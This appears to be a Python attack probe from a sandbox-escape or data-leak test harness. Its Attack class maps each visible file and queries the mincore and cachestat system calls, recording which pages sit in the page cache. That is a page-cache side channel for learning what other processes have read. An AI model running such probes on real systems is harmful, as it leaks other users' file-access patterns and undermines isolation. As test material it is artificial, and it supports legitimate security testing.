"""Asks for the list of a file's pages in the page cache, by mincore and cachestat."""

import ctypes
import mmap
import os

from aim import attempt, call, loot, visible

from run import ZEWDPCBaseRun

CACHESTAT = 451


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        for path in visible():
            file = attempt(os.open, path, os.O_RDONLY)
            if file is None or os.fstat(file).st_size < 64:
                continue
            area = mmap.mmap(file, 0, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_WRITE)
            start = ctypes.addressof(ctypes.c_char.from_buffer(area))
            seen = ctypes.create_string_buffer(b"\x5a", len(area) // mmap.PAGESIZE + 1)
            if attempt(call, "mincore", ctypes.c_void_p(start), ctypes.c_size_t(len(area)), seen) is not None:
                loot(f"{path}: mincore says {seen.raw[:8]!r}")
            counts, span = (ctypes.c_uint64 * 5)(), (ctypes.c_uint64 * 2)(0, len(area))
            if attempt(call, CACHESTAT, file, span, counts, 0) is not None:
                loot(f"{path}: cachestat says {list(counts)}")
